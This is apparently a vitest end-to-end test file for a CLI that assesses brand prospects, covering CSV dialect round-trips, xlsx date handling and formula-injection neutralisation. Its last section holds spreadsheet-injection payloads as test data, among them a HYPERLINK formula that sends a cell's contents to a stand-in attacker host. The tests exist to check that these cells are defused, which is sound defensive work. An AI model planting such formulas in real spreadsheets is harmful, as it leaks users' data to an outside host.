// The spreadsheet handed back (issue 13), end to end through the built binary, with LibreOffice as the other
// real program that must read what the tool writes: csv in the user's dialect, the xlsx report, and the
// init --xlsx template.
import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createRequire } from 'node:module';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import iconv from 'iconv-lite';
import { run } from '../helpers/cli.js';
import { BOTH_PATHS } from '../helpers/paths.js';
import { toolHeader } from '../../src/report/sheet.js';

const ExcelJS = createRequire(import.meta.url)('exceljs') as typeof import('exceljs');
const temp = (): string => mkdtempSync(join(tmpdir(), 'market-ready-sheets-'));
const FRENCH = 'fixtures/csv/french-excel-win1252.csv';
const INJECTION = 'fixtures/csv/formula-injection.csv';

/** Verdicts of a run, by brand, from its ndjson. */
async function verdictsOf(args: string[]): Promise<Map<string, string>> {
  const r = await run(['assess', ...args, '--format', 'ndjson', '--fail-on', 'none']);
  expect(r.code).toBe(0);
  return new Map(
    r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { brand: string; verdict: string })
      .map((x) => [x.brand, x.verdict]),
  );
}

describe('csv in the dialect of the spreadsheet it read', () => {
  it('French Excel CSV (;, Windows-1252, CRLF, decimal comma) in, the same dialect out, read back: the same verdicts', async () => {
    const dir = temp();
    const out = join(dir, 'verdicts.csv');
    const r = await run(['assess', FRENCH, '--format', 'csv', '--lang', 'fr', '--fail-on', 'none', '-o', out]);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe('');
    const bytes = readFileSync(out);
    // Windows-1252 (É is one byte, 0xC9), no BOM, CRLF line ends, semicolons
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    expect(bytes.includes(Buffer.from([0xc9]))).toBe(true);
    const text = iconv.decode(bytes, 'win1252');
    expect(text).toContain('Maison Élodie');
    expect(text.split('\r\n').length - 1).toBe(4);
    const input = iconv.decode(readFileSync(FRENCH), 'win1252');
    const inputRows = parse(input, { delimiter: ';' }) as string[][];
    const rows = parse(text, { delimiter: ';', record_delimiter: '\r\n' }) as string[][];
    expect(rows).toHaveLength(inputRows.length);
    const width = inputRows[0]!.length;
    // the input's own columns first, unchanged, then the tool's, headed in French
    rows.forEach((row, i) => expect(row.slice(0, width)).toEqual(inputRows[i]));
    const header = rows[0]!;
    expect(header.slice(width, width + 3)).toEqual([
      toolHeader('verdict', 'fr'),
      toolHeader('decision', 'fr'),
      toolHeader('decidedBy', 'fr'),
    ]);
    // numbers with a decimal comma
    const score = header.indexOf(toolHeader('score', 'fr'));
    expect(rows.slice(1).every((row) => /^\d+(,\d+)?$/.test(row[score]!))).toBe(true);
    expect(rows.slice(1).some((row) => row[score]!.includes(','))).toBe(true);
    // read back: the input's columns of the output, as a file in the same dialect, give the same verdicts
    const back = join(dir, 'back.csv');
    writeFileSync(
      back,
      iconv.encode(
        stringify(
          rows.map((row) => row.slice(0, width)),
          { delimiter: ';', record_delimiter: '\r\n' },
        ),
        'win1252',
      ),
    );
    const again = await verdictsOf([back]);
    const verdict = header.indexOf(toolHeader('verdict', 'fr'));
    expect(again.size).toBe(rows.length - 1);
    for (const row of rows.slice(1)) expect(again.get(row[1]!)).toBe(row[verdict]);
  });

  it.each(BOTH_PATHS)(
    "%s: Excel's Unicode text (UTF-16, tabs) with decimal commas, scores with a comma",
    async (_, env) => {
      const dir = temp();
      const input = join(dir, 'prospects.csv');
      const lines = [
        ['brand.name', 'brand.country', 'brand.category', 'pricing.marginAfterFeesPct', 'company.chinaTeamFte'],
        ['Maison Élodie', 'FR', 'beauty', '45,5', '2,5'],
        ['Crème du Léman', 'CH', 'beauty', '41,2', '1'],
      ];
      writeFileSync(
        input,
        iconv.encode(lines.map((l) => l.join('\t')).join('\r\n') + '\r\n', 'utf16le', { addBOM: true }),
      );
      const out = join(dir, 'verdicts.csv');
      const r = await run(['assess', input, '--format', 'csv', '--lang', 'fr', '--fail-on', 'none', '-o', out], {
        env,
      });
      expect(r.code).toBe(0);
      const bytes = readFileSync(out);
      expect(bytes.subarray(0, 2).equals(Buffer.from([0xff, 0xfe]))).toBe(true);
      const rows = parse(iconv.decode(bytes, 'utf16le'), { delimiter: '\t', record_delimiter: '\r\n' }) as string[][];
      expect(rows).toHaveLength(3);
      const score = rows[0]!.indexOf(toolHeader('score', 'fr'));
      expect(rows.slice(1).map((row) => row.slice(0, 5))).toEqual(lines.slice(1));
      expect(rows.slice(1).every((row) => /^\d+(,\d+)?$/.test(row[score]!))).toBe(true);
      expect(rows.slice(1).some((row) => row[score]!.includes(','))).toBe(true);
    },
  );

  it.each(BOTH_PATHS)(
    "%s: a sep=; first line (Excel's hint) is written back first, read back the same",
    async (_, env) => {
      const dir = temp();
      const input = join(dir, 'prospects.csv');
      writeFileSync(input, 'sep=;\r\nbrand.name;brand.country;brand.category\r\nMaison A;FR;beauty\r\nB;DE;food\r\n');
      const out = join(dir, 'verdicts.csv');
      const r = await run(['assess', input, '--format', 'csv', '--fail-on', 'none', '-o', out], { env });
      expect(r.code).toBe(0);
      const text = readFileSync(out, 'latin1');
      expect(text.startsWith('sep=;\r\nbrand.name;brand.country;brand.category;')).toBe(true);
      expect(text.match(/sep=/g)).toHaveLength(1);
      // the report is itself an input the tool reads as the same rows (its own columns are kept, not refused)
      const back = await verdictsOf([out]);
      expect([...back.keys()]).toEqual(['Maison A', 'B']);
      // --csv-dialect names a dialect of its own: no hint line
      const named = await run(['assess', input, '--format', 'csv', '--csv-dialect', 'excel-fr', '--fail-on', 'none']);
      expect(named.stdout).not.toContain('sep=');
    },
  );

  it('--csv-dialect rfc4180 and --lang fr with YAML inputs: the dialect asked for, one row per profile', async () => {
    const rfc = await run([
      'assess',
      'fixtures/brands',
      '--format',
      'csv',
      '--csv-dialect',
      'rfc4180',
      '--fail-on',
      'none',
    ]);
    expect(rfc.stdout.startsWith(toolHeader('brand', 'en') + ',')).toBe(true);
    const yamlCount = (await verdictsOf(['fixtures/brands'])).size;
    expect(parse(rfc.stdout, { record_delimiter: '\r\n' })).toHaveLength(yamlCount + 1);
    const fr = await run(['assess', 'fixtures/brands', '--format', 'csv', '--lang', 'fr', '--fail-on', 'none']);
    expect(fr.stdout.startsWith('\ufeff' + toolHeader('brand', 'fr') + ';')).toBe(true);
    expect(parse(fr.stdout.slice(1), { delimiter: ';', record_delimiter: '\r\n' })).toHaveLength(yamlCount + 1);
  });

  it('every input row exactly once, error rows included, with their errors', async () => {
    const r = await run(['assess', 'fixtures/csv/bad-rows.csv', '--format', 'csv', '--csv-dialect', 'rfc4180']);
    expect(r.code).toBe(2);
    const rows = parse(r.stdout, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    const input = parse(readFileSync('fixtures/csv/bad-rows.csv'), { relax_column_count: true }) as string[][];
    expect(rows).toHaveLength(input.length - 1);
    const errors = rows.filter((x) => x.verdict === 'error');
    expect(errors.length).toBeGreaterThan(0);
    for (const e of errors) expect(e[toolHeader('errors', 'en')]).toMatch(/bad-rows\.csv:\d+/);
  });
});

describe('an .xlsx input handed back', () => {
  it('a date cell in the founding-year column: read as its year, handed back as the date it was', async () => {
    const dir = temp();
    const input = join(dir, 'prospects.xlsx');
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Feuil1');
    sheet.addRow(['Marque', 'Pays', 'Catégorie', 'Date de création', 'Premier contact']);
    sheet.addRow(['Maison A', 'France', 'Beauté', new Date(Date.UTC(2015, 1, 1)), new Date(Date.UTC(2026, 2, 14))]);
    await book.xlsx.writeFile(input);
    const ndjson = await run(['assess', input, '--format', 'ndjson', '--findings', 'all', '--fail-on', 'none']);
    const result = JSON.parse(ndjson.stdout) as { findings: { field?: string; actual?: unknown }[] };
    expect(result.findings.find((f) => f.field === 'brand.foundedYear')?.actual).toBe(2015);
    const csv = await run(['assess', input, '--format', 'csv', '--fail-on', 'none']);
    const [row] = parse(csv.stdout, { columns: true, bom: true }) as Record<string, string>[];
    // the user's own day, not only the year the tool read from it
    expect([row!['Date de création'], row!['Premier contact']]).toEqual(['2015-02-01', '2026-03-14']);
  });
});

describe('a run over several inputs: one sheet, each row saying which brand it is', () => {
  it("a second file's header for the same field (Brand under Marque) fills that column; a YAML profile its name", async () => {
    const dir = temp();
    const second = join(dir, 'crm-export.csv');
    writeFileSync(second, 'Brand,Country,Category,Remarques\nMaison Seconde,FR,beauty,vue au salon\n');
    const args = [
      'assess',
      'fixtures/csv/french-excel-values.csv',
      second,
      'fixtures/brands/approve-french-skincare.yaml',
    ];
    const r = await run([...args, '--format', 'csv', '--csv-dialect', 'rfc4180', '--fail-on', 'none', '-q']);
    expect(r.code).toBe(0);
    const rows = parse(r.stdout, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    const other = toolHeader('otherColumns', 'en');
    expect(rows.map((row) => [row.Marque, row.Pays, row['Catégorie']])).toEqual([
      ['Maison Élodie', 'France', 'Beauté'],
      ['Cantina Rossa', 'Italie', 'Vins et spiritueux'],
      ['Brauhaus Nord', 'Allemagne', 'Boissons'],
      ['Maison Seconde', 'FR', 'beauty'],
      ['Maison Lumière', '', ''],
    ]);
    // the column that is no field of the first file's header still goes to "other columns"
    expect(rows[3]![other]).toBe('Remarques: vue au salon');
    expect(rows[4]![other]).toBe('');
  });
});

describe('formula injection: neutralised in csv and xlsx, and in no other format', () => {
  const cases = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1', '@SUM(A1:A9)'];

  it('csv: each cell that would run is text with a leading apostrophe; a bare CR stays inside its quoted cell', async () => {
    const r = await run(['assess', INJECTION, '--format', 'csv', '--fail-on', 'none']);
    const rows = parse(r.stdout, { record_delimiter: '\r\n' }) as string[][];
    expect(rows).toHaveLength(5);
    expect(rows.slice(1).map((row) => row[0])).toEqual([...cases.map((c) => `'${c}`), '-12']);
    expect(rows[2]![3]).toBe("'-1+1");
    expect(rows[3]![3]).toBe('line one\rline two');
    expect(rows[4]![3]).toBe("'\tTabbed");
    expect(r.stdout).toContain('"line one\rline two"');
  });

  it('xlsx: the same cells, as text (never a formula)', async () => {
    const dir = temp();
    const out = join(dir, 'v.xlsx');
    expect((await run(['assess', INJECTION, '--format', 'xlsx', '--fail-on', 'none', '-o', out])).code).toBe(0);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const sheet = wb.worksheets[0]!;
    const names = [2, 3, 4, 5].map((r) => sheet.getRow(r).getCell(1).value);
    expect(names).toEqual([...cases.map((c) => `'${c}`), '-12']);
    expect(sheet.getRow(3).getCell(4).value).toBe("'-1+1");
    // the sheet's xml holds no formula but the tool's own links (none here: every brand has findings, each a link)
    const xml = execFileSync('unzip', ['-p', out, 'xl/worksheets/sheet1.xml']).toString('utf8');
    expect(xml).toContain('&apos;=HYPERLINK(&quot;http');
    expect([...xml.matchAll(/<f>([^<]*)<\/f>/g)].every((m) => m[1]!.startsWith('HYPERLINK(&quot;#'))).toBe(true);
  });

  it.each(['json', 'ndjson', 'text', 'markdown', 'html', 'junit', 'sarif', 'github'])(
    '%s: the brand names as they are',
    async (format) => {
      const r = await run(['assess', INJECTION, '--format', format, '--fail-on', 'none']);
      for (const name of ['+1', '@SUM(A1:A9)']) expect(r.stdout).toContain(name);
      expect(r.stdout).not.toContain("'+1");
      expect(r.stdout).not.toContain("'@SUM");
    },
  );
});
